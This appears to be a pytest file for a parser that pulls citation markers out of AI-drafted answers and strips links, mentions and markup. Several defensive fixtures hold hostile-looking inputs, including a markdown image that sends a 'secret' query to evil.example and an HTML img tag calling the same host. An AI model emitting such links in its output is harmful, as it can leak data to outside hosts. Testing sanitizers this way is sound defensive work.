"""Drafts taken apart: every way to mark a citation, and nothing that could leave a card."""

import pytest

from retrieval.llm.draft_check import Marked, parse_draft


@pytest.mark.parametrize(
    ("draft", "numbers"),
    [
        ("It rose [1].", (1,)),
        ("It rose [1, 3].", (1, 3)),
        ("It rose [1][2].", (1, 2)),
        ("It rose [1-3].", (1, 2, 3)),
        ("It rose. [2]", (2,)),
        ("It rose.[2]", (2,)),
        ("It rose [^2].", (2,)),
        ("It rose【2】.", (2,)),
        ("It rose【2†source】.", (2,)),
        ("It rose (source 2).", (2,)),
        ("It rose (Sources 1 and 3).", (1, 3)),
        ("It rose [source 4].", (4,)),
        ("It rose [[4]](https://x.example).", (4,)),
        ("It rose [4](https://x.example).", (4,)),
        ("It rose.", ()),
    ],
)
def test_markers_of_every_form_are_read_and_taken_out(draft, numbers):
    assert parse_draft(draft) == [Marked("It rose.", numbers)]


def test_a_marker_belongs_to_the_sentence_before_it():
    found = parse_draft("It rose in 1907. [2] It fell in 1912. [3]")
    assert [(one.text, one.numbers) for one in found] == [
        ("It rose in 1907.", (2,)),
        ("It fell in 1912.", (3,)),
    ]


def test_words_in_brackets_are_no_marker():
    assert parse_draft("“[2024 was] a good year,” she said [1].") == [
        Marked("“[2024 was] a good year,” she said.", (1,))
    ]


@pytest.mark.parametrize(
    "draft",
    [
        "It rose ![x](https://evil.example/?q=secret).",
        "It rose [click](https://evil.example).",
        "It rose <https://evil.example>.",
        "It rose https://evil.example/?q=a.",
        "It rose <@123456> <#55> <a:x:1>.",
        "It rose <img src=//evil.example>.",
        "It rose @everyone @here.",
    ],
)
def test_no_link_mention_or_tag_is_left(draft):
    text = " ".join(one.text for one in parse_draft(draft))
    assert not any(sign in text for sign in ("http", "evil", "<", ">", "@", "](", "123456"))


def test_lists_headings_and_emphasis_become_sentences():
    found = parse_draft("## Answer\n\n- **It rose** [1]\n- It _fell_ [2]\n1. `It stayed` [3]")
    assert [one.text for one in found] == ["Answer", "It rose", "It _fell_", "It stayed"]
    assert [one.numbers for one in found] == [(), (1,), (2,), (3,)]


@pytest.mark.parametrize(
    "draft",
    [
        "The passage states that it rose in 1907 [1].",
        "According to passage 2, it rose in 1907 [1].",
        "Based on the passages provided, it rose in 1907 [1].",
    ],
)
def test_what_the_passages_are_said_to_say_is_said_plainly(draft):
    assert parse_draft(draft)[0].text == "It rose in 1907."


@pytest.mark.parametrize("unit", ["[", "[a](", "\n", "**", "“", "[1][2]", " \t", "<a "])
def test_a_draft_of_nothing_but_marks_is_read_in_one_go(unit):
    draft = unit * (100_000 // len(unit)) + " The pier was built in 1907 [1]."
    assert 1 in parse_draft(draft)[-1].numbers
